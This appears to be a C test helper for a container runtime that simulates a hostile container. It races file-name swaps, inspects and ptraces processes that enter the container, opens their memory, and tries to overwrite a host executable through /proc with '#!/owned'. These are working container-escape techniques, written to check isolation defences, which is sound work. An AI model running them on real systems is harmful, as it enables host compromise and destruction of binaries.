/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile container, or a hostile neighbour on the host, does.
 *
 *   attacker swap A B           exchanges two names, as fast as it can, until killed
 *   attacker join               looks for processes that enter the container and are not the image's: opens their
 *                               roots and directories; prints one line for each of the host's; until killed
 *   attacker trace              the same, and traces them and opens their memory
 *   attacker overwrite          keeps open whatever executable it finds in /proc that is not the image's, and tries
 *                               to write to it; prints one line if it could; until killed
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static bool is_file(const struct stat *status, const char *path)
{
	struct stat other;

	return !stat(path, &other) && other.st_dev == status->st_dev && other.st_ino == status->st_ino;
}

static bool is_the_images(const struct stat *executable)
{
	return is_file(executable, "/proc/self/exe") || is_file(executable, "/bin/sh");
}

/* Whether the process runs a program of the image, which a hostile image may do with as it likes. */
static bool runs_the_image(int pid)
{
	char path[64];
	struct stat executable;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (stat(path, &executable))
		return errno == ENOENT || errno == ESRCH;
	return is_the_images(&executable);
}

static void report(const char *what, int pid, const char *detail)
{
	printf("%s %d %s\n", what, pid, detail);
	fflush(stdout);
}

/* The container's own root, which is no news to the attacker. */
static bool is_ours(const struct stat *status)
{
	struct stat root;

	return !stat("/", &root) && root.st_dev == status->st_dev && root.st_ino == status->st_ino;
}

/* A procfs that shows the same first process as the container's own does. */
static bool is_our_procfs(const char *path)
{
	char there[PATH_MAX], first[64] = "", own[64] = "";
	ssize_t length;

	snprintf(there, sizeof(there), "%s/1/ns/pid", path);
	length = readlink(there, first, sizeof(first) - 1);
	return length > 0 && readlink("/proc/1/ns/pid", own, sizeof(own) - 1) == length && !strcmp(first, own);
}

/* What is taken is held: the process that it was taken from may have closed it, or ended, a moment later. */
static void take_directory(int pid, const char *path)
{
	char held[64], target[PATH_MAX];
	struct stat status;
	ssize_t length;
	int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);

	if (fd < 0)
		return;
	snprintf(held, sizeof(held), "/proc/self/fd/%d", fd);
	length = readlink(held, target, sizeof(target) - 1);
	target[length > 0 ? length : 0] = '\0';
	if (!fstat(fd, &status) && !is_ours(&status) && !is_our_procfs(held) && !runs_the_image(pid))
		report("directory", pid, target);
	close(fd);
}

static void open_links(int pid)
{
	static const char *const names[] = { "root", "cwd" };
	char path[64 + NAME_MAX];
	struct dirent *entry;
	DIR *directory;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		struct stat status;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		if (!stat(path, &status) && !is_ours(&status) && !runs_the_image(pid))
			report("opened", pid, names[i]);
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	directory = opendir(path);
	while (directory && (entry = readdir(directory))) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, entry->d_name);
		if (entry->d_name[0] != '.')
			take_directory(pid, path);
	}
	if (directory)
		closedir(directory);
}

static void trace(int pid)
{
	if (runs_the_image(pid) || ptrace(PTRACE_SEIZE, pid, NULL, NULL))
		return;
	if (!runs_the_image(pid))
		report("traced", pid, "");
	/* Only what is stopped can be let go, and who waits for it would wait forever. */
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void read_memory(int pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0 && !runs_the_image(pid))
		report("memory", pid, "");
	if (fd >= 0)
		close(fd);
}

static void trace_one(int pid)
{
	open_links(pid);
	read_memory(pid);
	trace(pid);
}

/* A descriptor survives the process, and with it the "text file busy" that protects a running program. */
static void overwrite_one(int pid)
{
	struct stat executable;
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	/* What is held is looked at: the process may have become the image's since it was found. */
	if (fstat(fd, &executable) || is_the_images(&executable)) {
		close(fd);
		return;
	}
	for (int attempt = 0; attempt < 20000; attempt++) {
		int writable;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		writable = open(path, O_WRONLY | O_CLOEXEC);
		if (writable >= 0) {
			ssize_t written = write(writable, "#!/owned\n", 9);

			report("overwrote", pid, written == 9 ? "wholly" : "not");
			close(writable);
			break;
		}
		if (errno != ETXTBSY)
			break;
	}
	close(fd);
}

static _Noreturn void for_each_process(void (*act)(int))
{
	for (;;) {
		DIR *directory = opendir("/proc");
		struct dirent *entry;

		if (!directory)
			exit(1);
		while ((entry = readdir(directory))) {
			int pid = atoi(entry->d_name);

			if (pid > 1 && pid != getpid())
				act(pid);
		}
		closedir(directory);
	}
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "swap")) {
		puts("swapping");
		fflush(stdout);
		for (;;)
			renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
	}
	puts("attacking");
	fflush(stdout);
	if (argc == 2 && !strcmp(argv[1], "join"))
		for_each_process(open_links);
	if (argc == 2 && !strcmp(argv[1], "trace"))
		for_each_process(trace_one);
	if (argc == 2 && !strcmp(argv[1], "overwrite"))
		for_each_process(overwrite_one);
	return 2;
}
